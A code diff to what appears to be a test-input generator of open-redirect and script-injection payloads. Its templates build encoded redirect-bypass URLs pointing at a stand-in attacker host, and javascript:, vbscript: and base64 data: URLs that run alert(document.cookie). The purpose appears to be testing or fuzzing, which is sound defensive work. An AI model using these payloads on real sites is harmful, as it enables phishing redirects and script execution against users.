@@ -18,6 +18,7 @@ import {
   ALPHANUMERIC,
   attackerHost,
   attackerUrl,
+  base64,
   domain,
   inventedWord,
   LOWER,
@@ -232,7 +233,7 @@ const evil = mostly(
   [text`${inventedWord}%00.com`, 0.3],
   [text`www.${inventedWord}.com.${attackerHost}`, 0.4],
   [text`${letters('<>^*(){}|~', 1, 3)}${letters(LOWER, 1, 4)}.${letters(LOWER, 2, 6)}@${attackerHost}`, 0.4],
-  [text`%67%6f%6f%67%6c%65%2e%63%6f%6d`, 0.2]
+  [altered(attackerHost, (host) => Array.from(host, (letter) => `%${letter.charCodeAt(0).toString(16)}`).join('')), 0.2]
 );
 const trail = mostly(
   ['', 3],
@@ -261,7 +262,20 @@ export const redirectTemplates = family('other-injection/redirect', {
   'odd-path': text`/${oneOf('%5c', '%5c%5c', '%2f%2f', '%09/', '%0d/', '\\\\', '%2f%5c', '\t/', '.%2f/', '%2f', '\\t/', '/%09/', '%68%74%74%70%3a%2f%2f')}${oneOf('example.com', 'google.com', attackerHost)}${trail}`,
   'user-info': text`${oneOf('http://', 'https://', '//', '/http://', '///')}${domain}${oneOf('@', '%40', '\\@', '%2f@', ';@', '%00@', '%5c@', ':80@', '&%40', ':80#@', '\\.', '%E5%98%8A%E5%98%8D@', '?@', '.@', '[@')}${evil}${trail}`,
   suffix: text`${oneOf('http://', 'https://', '//')}${attackerHost}${oneOf('%23.', '%3f.', '?', '#', '%5c.', '%252f', '%E3%80%82', '\\', '%2f%2f', '/?', '/#', '%00', '%0a', '\u0000')}${domain}`,
-  'script-redirect': text`${maybe(oneOf('/', '//', '\\'))}${oneOf('javascript:', 'javascript://', 'java%0d%0ascript:', 'javascript%3a', 'data:text/html,', 'jaVAscript:', '%6a%61vascript:', '/javascript:', 'javascript//:', 'vbscript:', '\u0001javascript:', 'data:text/html;base64,PHNjcmlwdD4')}${oneOf(text`alert(${integer(1, 99)})${maybe(';')}`, text`%0a${words('alert confirm prompt')}(${oneOf('1', 'document.domain', 'document.cookie')})`, '<script>alert(1)</script>', text`//%0aalert(${integer(1, 9)})`)}`,
+  'script-redirect': text`${maybe(oneOf('/', '//', '\\'))}${oneOf(
+    'javascript:',
+    'javascript://',
+    'java%0d%0ascript:',
+    'javascript%3a',
+    'data:text/html,',
+    'jaVAscript:',
+    '%6a%61vascript:',
+    '/javascript:',
+    'javascript//:',
+    'vbscript:',
+    '\u0001javascript:',
+    altered(text`<script>${lowerWord}`, (markup) => `data:text/html;base64,${base64(markup)}`)
+  )}${oneOf(text`alert(${integer(1, 99)})${maybe(';')}`, text`%0a${words('alert confirm prompt')}(${oneOf('1', 'document.domain', 'document.cookie')})`, '<script>alert(1)</script>', text`//%0aalert(${integer(1, 9)})`)}`,
   'dots-and-numbers': text`${oneOf('http://', '//', 'https://', '/http://', 'http:')}${maybe(text`${letters(ALPHANUMERIC + '<>^*|~', 2, 14)}${oneOf('@', '@', '.', '%40')}`)}${anyNumericHost}${trail}`,
   'escaped-path': text`/${oneOf('%2f', '%5c', '%09', '%0d', '%00', '.', '..', '%2e%2e', '%3f', '%23')}${oneOf('/', '%2f', '\\', '%5c', '//')}${evil}${trail}`,
   'right-to-left': text`${oneOf('//', 'http://')}${oneOf('%E2%80%AE', '\u202e')}${altered(evil, (host) => Array.from(host).reverse().join(''))}`,
